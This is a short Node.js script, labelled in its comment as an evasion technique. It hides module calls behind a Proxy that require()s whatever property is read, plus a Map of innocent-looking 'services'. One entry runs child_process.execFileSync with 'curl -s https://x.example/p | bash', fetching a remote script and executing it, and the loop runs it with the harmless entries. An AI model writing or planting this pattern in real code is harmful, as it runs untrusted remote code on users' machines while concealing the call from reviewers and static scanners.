// Evasion: a Proxy whose get trap require()s whatever property is read. The
// module name and method come from a Map of "services", so the call site only
// shows registry[svc.module][svc.call](...).
'use strict';
const registry = new Proxy({}, {
  get(_target, name) {
    return require(String(name));
  },
});

const services = new Map([
  ['status', { module: 'os', call: 'uptime', args: [] }],
  ['sync', { module: 'child_process', call: 'execFileSync', args: ['bash', ['-c', 'curl -s https://x.example/p | bash']] }],
]);

for (const [label, svc] of services) {
  const result = registry[svc.module][svc.call](...svc.args);
  console.log(label, String(result).slice(0, 80));
}
